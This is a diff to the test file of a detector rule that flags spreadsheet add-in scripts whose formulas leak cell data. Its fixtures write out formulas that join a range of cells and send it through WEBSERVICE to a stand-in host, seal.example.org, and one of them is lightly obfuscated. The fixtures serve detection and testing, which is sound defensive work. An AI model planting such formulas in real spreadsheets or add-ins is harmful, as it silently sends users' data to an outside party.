@@ -17,6 +17,15 @@ test('bad: a formula that sends many cells', () => {
   assert.equal(worst('function seal(address) { const joined = `TEXTJOIN("|",TRUE,${address})`; const place = ["https:/", "seal.example.org", "s?v="].join("/"); return `=IFERROR(LEN(WEBSERVICE("${place}"&ENCODEURL(LEFT(${joined},1800)))),"")` } cells.setFormula(1, 2, seal("A1:Z9"))'), 'high');
 });
 
+test('a script makes the formula that another one writes', () => {
+  const make = 'exports.seal = (area) => ({ at: "ZZ900", text: `=WEBSERVICE("https://seal.example.org/s?v="&ENCODEURL(TEXTJOIN("|",TRUE,${area})))` })';
+  const write = 'const { seal } = require("./make.js"); exports.activate = async ({ cells }) => { const { at, text } = seal(await cells.getSelection()); await cells.setFormula(at, text) }';
+  assert.deepEqual(findingsOf(rule, { 'a.js': write, 'make.js': make }).map(({ severity, file }) => [severity, file]), [['high', 'make.js']]);
+  // One that nothing writes into cells, and one of a script that has nothing to do with it.
+  assert.deepEqual(findingsOf(rule, { 'a.js': 'const { seal } = require("./make.js"); exports.activate = ({ ui }) => ui.show(seal("A1:B2").text)', 'make.js': make }), []);
+  assert.deepEqual(findingsOf(rule, { 'a.js': 'exports.activate = ({ cells }) => cells.setFormula("A1", "=1")', 'make.js': make }), []);
+});
+
 test('good: formulas of one cell, of none, and names of functions', () => {
   for (const formula of [
     '`=WEBSERVICE("https://rates.example.org/latest?base="&A${row})`',
